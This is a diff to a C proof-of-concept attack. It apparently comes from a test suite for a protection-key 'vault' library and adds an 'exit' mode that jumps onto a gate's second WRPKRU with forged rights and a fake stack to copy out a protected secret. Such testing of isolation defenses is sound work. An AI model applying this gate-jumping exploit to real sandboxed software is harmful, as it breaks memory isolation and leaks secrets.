@@ -1,8 +1,11 @@
 /* Jumping into a gate: onto its WRPKRU with every key open in eax, or just
- * past it with the application's rights, as if its check had passed.
- * gate_jump onto|past */
+ * past it with the application's rights, as if its check had passed; or
+ * onto its way out (the second WRPKRU) with the library's own rights, which
+ * that check accepts (a caller library's), and a stack of the attacker's.
+ * gate_jump onto|past|exit */
 #include "attack.h"
 
+#include <setjmp.h>
 #include <stdint.h>
 
 /* The gate behind a patched export: [endbr64] jmp stub; stub = mov r11d, id;
@@ -39,6 +42,54 @@ static const volatile uint8_t *steal(void *arg)
     return j->cell->secret;
 }
 
+/* The protection key of the page holding ADDR (/proc/self/smaps), or -1. */
+static int key_of(const void *addr)
+{
+    FILE *f = fopen("/proc/self/smaps", "r");
+    char line[256];
+    int key = -1, inside = 0;
+    while (f && fgets(line, sizeof line, f)) {
+        unsigned long lo, hi;
+        if (sscanf(line, "%lx-%lx ", &lo, &hi) == 2)
+            inside = (uintptr_t)addr >= lo && (uintptr_t)addr < hi;
+        else if (inside && sscanf(line, "ProtectionKey: %d", &key) == 1)
+            break;
+    }
+    if (f)
+        fclose(f);
+    return key;
+}
+
+static jmp_buf back;
+static uint8_t stolen[VAULT_SECRET_LEN];
+static const volatile uint8_t *secret_at;
+
+/* Where the gate's way out returns to, with the rights it just wrote. */
+static void landed(void)
+{
+    for (int i = 0; i < VAULT_SECRET_LEN; i++)
+        stolen[i] = secret_at[i];
+    longjmp(back, 1);
+}
+
+struct exit_jump {
+    const uint8_t *wrpkru;
+    uint32_t rights;
+};
+
+static const volatile uint8_t *steal_by_exit(void *arg)
+{
+    struct exit_jump *j = arg;
+    static uint64_t stack[512];
+    stack[500] = (uint64_t)(uintptr_t)landed; /* the "caller's stack": its return address */
+    secret_at = vault_address(VAULT_DATA)->secret;
+    if (setjmp(back))
+        return stolen;
+    __asm__ volatile("mov %0, %%r9\n xor %%ecx, %%ecx\n xor %%edx, %%edx\n jmp *%1"
+                     ::"r"(&stack[500]), "r"(j->wrpkru), "a"(j->rights) : "rcx", "rdx", "r9", "memory");
+    return NULL;
+}
+
 int main(int argc, char **argv)
 {
     vault_open();
@@ -52,6 +103,19 @@ int main(int argc, char **argv)
             wrpkru = gate + i;
     if (!wrpkru)
         blocked("no WRPKRU in the gate");
+    if (argc > 1 && strcmp(argv[1], "exit") == 0) {
+        const uint8_t *second = NULL;
+        for (int i = 3; i < 4096 && !second; i++)
+            if (wrpkru[i] == 0x0f && wrpkru[i + 1] == 0x01 && wrpkru[i + 2] == 0xef)
+                second = wrpkru + i;
+        int key = key_of(vault_address(VAULT_DATA));
+        uint32_t app, edx;
+        __asm__ volatile("rdpkru" : "=a"(app), "=d"(edx) : "c"(0));
+        if (!second || key < 1)
+            blocked("no way out found in the gate, or no key on the library");
+        struct exit_jump x = {second, app & ~(3u << (2 * key))};
+        steal_in_child(steal_by_exit, &x);
+    }
     struct jump j = {argc > 1 && strcmp(argv[1], "past") == 0 ? wrpkru + 3 : wrpkru, id, vault_address(VAULT_DATA)};
     steal_in_child(steal, &j);
 }
